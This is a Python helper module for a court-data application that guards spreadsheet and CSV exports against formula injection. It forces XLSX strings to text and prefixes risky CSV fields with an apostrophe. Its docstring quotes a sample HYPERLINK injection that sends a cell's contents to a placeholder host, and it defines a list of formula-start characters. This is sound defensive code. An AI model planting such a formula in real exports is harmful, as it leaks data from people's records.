"""Spreadsheet and CSV output that keeps text as text: every export writes through here.

Court data is typed by people and imported from other systems, so a cause of action can be
`=HYPERLINK("http://x/?"&A2,"详情")`. openpyxl stores any string that starts with `=` as a
formula (and `#N/A` as an error), and a spreadsheet program opening a CSV evaluates a cell that
starts with `= + - @`, a tab or a carriage return. Here:

- XLSX: every string goes into a cell whose type is set to string after the value, so openpyxl
  writes it as literal text; the visible value is unchanged. Numbers and dates stay numbers and
  dates (a negative number is a number, not text that starts with `-`).
- CSV: a string that starts with one of those characters gets a leading `'` (OWASP's advice
  for CSV injection); numbers are written as they are.
"""

from __future__ import annotations

import csv
import tempfile
from collections.abc import Iterable
from typing import Any, TextIO

from django.utils.functional import Promise
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

# What a spreadsheet program reads as the start of a formula (or of a DDE payload).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def xlsx_cell(sheet, value: Any = None, *, font=None, fill=None, alignment=None) -> Cell:
    """A cell for `sheet.append`: text is typed as text, whatever it starts with. Works for
    write-only sheets (as a WriteOnlyCell) and ordinary ones."""
    if isinstance(value, Promise):  # a gettext_lazy label
        value = str(value)
    if isinstance(value, str):
        # openpyxl refuses control characters; an imported cause must not break an export.
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = Cell(sheet, row=1, column=1, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # after the value: the setter makes "=..." a formula, "#N/A" an error
    if font is not None:
        cell.font = font
    if fill is not None:
        cell.fill = fill
    if alignment is not None:
        cell.alignment = alignment
    return cell


def xlsx_row(sheet, values: Iterable[Any], **style) -> list[Cell]:
    """A row of cells for `sheet.append(...)`; `style` (font, fill, alignment) on every cell."""
    return [xlsx_cell(sheet, value, **style) for value in values]


def xlsx_append(sheet, values: Iterable[Any], **style) -> None:
    """`sheet.append(values)` with every string kept as text."""
    sheet.append(xlsx_row(sheet, values, **style))


def csv_value(value: Any) -> Any:
    """A CSV field that a spreadsheet program shows as text: `'` before a formula start."""
    if starts_like_formula(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer whose rows go through `csv_value`."""

    def __init__(self, stream: TextIO, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([csv_value(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO, **options) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **options)


def copy_csv(cursor, query: str, stream: TextIO, *, lineterminator: str = "\n") -> None:
    """`cursor.copy_expert(query, stream)` for a `COPY (...) TO STDOUT WITH (FORMAT csv)`,
    each field made safe on its way to `stream`. PostgreSQL writes the CSV into a temporary
    file (a text file: psycopg2 then writes str), read back row by row."""
    with tempfile.TemporaryFile(mode="w+", encoding="utf-8", newline="") as buffer:
        cursor.copy_expert(query, buffer)
        buffer.seek(0)
        csv_writer(stream, lineterminator=lineterminator).writerows(csv.reader(buffer))
